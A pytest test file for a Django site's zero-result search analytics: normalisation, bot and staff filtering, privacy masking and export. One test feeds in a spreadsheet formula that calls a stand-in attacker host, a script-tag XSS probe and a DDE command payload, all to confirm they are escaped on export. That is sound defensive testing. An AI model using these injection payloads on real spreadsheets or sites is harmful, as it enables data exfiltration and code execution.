"""Zero-result searches of the live site (issue 15 item 3; decision 0057): counted per day and
normalised query, people only, one upsert per search that found nothing and nothing else; hostile
queries stored as text and exported safely; the selector the dashboard reads."""

from datetime import date, timedelta
from urllib.parse import quote

import pytest
from django.db import DatabaseError, connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from kokasen.analytics import counters, searches
from kokasen.analytics.models import ZeroResultSearchDay
from kokasen.analytics.search_selectors import zero_result_searches
from kokasen.core import spreadsheets
from kokasen.pages.signals import search_found_nothing
from kokasen.testing import login_member, login_staff
from kokasen.testing.traffic import BROWSERS

pytestmark = pytest.mark.django_db

EDGE, IPHONE = BROWSERS[0], BROWSERS[3]
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
NOTHING = "存在しない検索語ぴよぴよ"
TABLE = ZeroResultSearchDay._meta.db_table


def search(client, query, agent=EDGE, **extra):
    return client.get(f"/search/?q={quote(query)}", HTTP_USER_AGENT=agent, **extra)


def counts() -> dict[str, int]:
    return dict(ZeroResultSearchDay.objects.filter(day=timezone.localdate()).values_list("query", "count"))


def test_a_search_that_finds_nothing_is_counted_once_per_search_normalised(demo_site, client):
    assert search(client, NOTHING).status_code == 200
    search(client, NOTHING, agent=IPHONE)
    search(client, "ＰＩＹＯ　 Piyo")  # full width, upper case, two spaces: one query
    search(client, "piyo piyo")
    search(client, "研修")  # found something: not counted
    search(client, "   ")  # nothing searched
    assert counts() == {NOTHING: 2, "piyo piyo": 2}


def test_bots_staff_and_ignored_networks_are_not_counted_members_are(demo_site, settings, member_a, operator):
    search(Client(), NOTHING, agent=GOOGLE)
    search(Client(), NOTHING, agent="curl/8.5.0")
    search(Client(), NOTHING, agent="")
    staff = Client()
    login_staff(staff, operator)
    search(staff, NOTHING)
    unverified = Client()
    unverified.force_login(operator)  # staff without the TOTP step are still staff
    search(unverified, NOTHING)
    settings.ANALYTICS_IGNORE_NETWORKS = ["198.51.100.0/24"]
    searches._filter = None  # the filter is built once per process from the settings
    try:
        search(Client(), NOTHING, REMOTE_ADDR="198.51.100.7")
    finally:
        searches._filter = None
    assert counts() == {}
    member = Client()
    login_member(member, member_a)
    search(member, NOTHING)  # a local government's account is a person searching
    assert counts() == {NOTHING: 1}


def test_one_upsert_per_zero_result_search_and_nothing_for_a_search_that_finds_something(demo_site, client):
    search(client, "研修")  # warm the caches (search documents, the bot patterns)
    search(client, NOTHING)
    with CaptureQueriesContext(connection) as found:
        search(client, "研修")
    with CaptureQueriesContext(connection) as counted:
        search(client, NOTHING)
    search_found_nothing.disconnect(dispatch_uid="analytics.zero_result_searches")
    try:
        with CaptureQueriesContext(connection) as uncounted:
            search(client, NOTHING)
    finally:
        search_found_nothing.connect(searches.on_search_found_nothing, dispatch_uid="analytics.zero_result_searches")
    assert not [q for q in found.captured_queries if "analytics_" in q["sql"]]
    ours = [q["sql"] for q in counted.captured_queries if "analytics_" in q["sql"]]
    assert len(ours) == 1 and ours[0].startswith("INSERT") and "ON CONFLICT" in ours[0]
    # the whole cost: that one statement in its savepoint (SAVEPOINT, INSERT … ON CONFLICT, RELEASE)
    assert len(counted.captured_queries) - len(uncounted.captured_queries) == 3
    assert counts() == {NOTHING: 2}


def test_a_failing_write_never_breaks_the_search(demo_site, client, monkeypatch):
    def broken(*args, **kwargs):
        raise DatabaseError("disk full")

    monkeypatch.setattr(counters, "increment", broken)
    response = search(client, NOTHING)
    assert response.status_code == 200 and NOTHING in response.content.decode()


def test_what_is_kept_of_a_query():
    assert searches.stored_query("Ｙａｍａｄａ　Hanako") == "yamada hanako"
    assert searches.stored_query("連絡先 taro.yamada@example.jp まで") == "連絡先 〔メールアドレス〕 まで"
    assert searches.stored_query("電話 03-1234-5678") == "電話 〔番号〕"
    assert searches.stored_query("０９０－１２３４－５６７８") == "〔番号〕"
    assert searches.stored_query("令和6年度 2024") == "令和6年度 2024"  # short numbers stay
    assert len(searches.stored_query("あ" * 100)) == searches.MAX_QUERY
    assert searches.stored_query(" \u3000 ") == ""


def test_hostile_queries_are_stored_as_text_and_exported_safely(demo_site, client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
    script = "<script>alert(1)</script>"
    for query in (formula, script, script, "+cmd|' /C calc'!A0"):
        response = search(client, query)
        assert "<script>alert(1)</script>" not in response.content.decode()  # the page escapes it
    today = timezone.localdate()
    rows = zero_result_searches(today, today)
    assert rows[0] == (script, 2)
    assert ('=hyperlink("http://evil.example/?"&a1,"クリック")', 1) in rows
    csv_text = spreadsheets.csv_bytes(["検索語", "回数"], rows).decode("utf-8-sig")
    assert "'=hyperlink(" in csv_text and "'+cmd|" in csv_text and "\r\n=" not in csv_text
    from io import BytesIO

    sheet = load_workbook(BytesIO(spreadsheets.xlsx_table(["検索語", "回数"], rows, sheet="該当なしの検索"))).active
    cells = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row[:1])
    assert any(value.lstrip("'").startswith("=hyperlink(") for value in cells)


def test_the_selector_adds_up_the_days_of_the_period_most_first():
    start = date(2026, 11, 1)
    for offset, query, count in [(0, "保育", 2), (1, "保育", 3), (1, "児童手当", 5), (2, "a", 1), (31, "保育", 9)]:
        ZeroResultSearchDay.objects.create(day=start + timedelta(days=offset), query=query, count=count)
    assert zero_result_searches(start, date(2026, 11, 30)) == [("保育", 5), ("児童手当", 5), ("a", 1)]
    assert zero_result_searches(start, date(2026, 11, 30), limit=1) == [("保育", 5)]
    assert zero_result_searches(date(2026, 12, 2), date(2026, 12, 2)) == [("保育", 9)]
    assert zero_result_searches(date(2027, 1, 1), date(2027, 1, 31)) == []
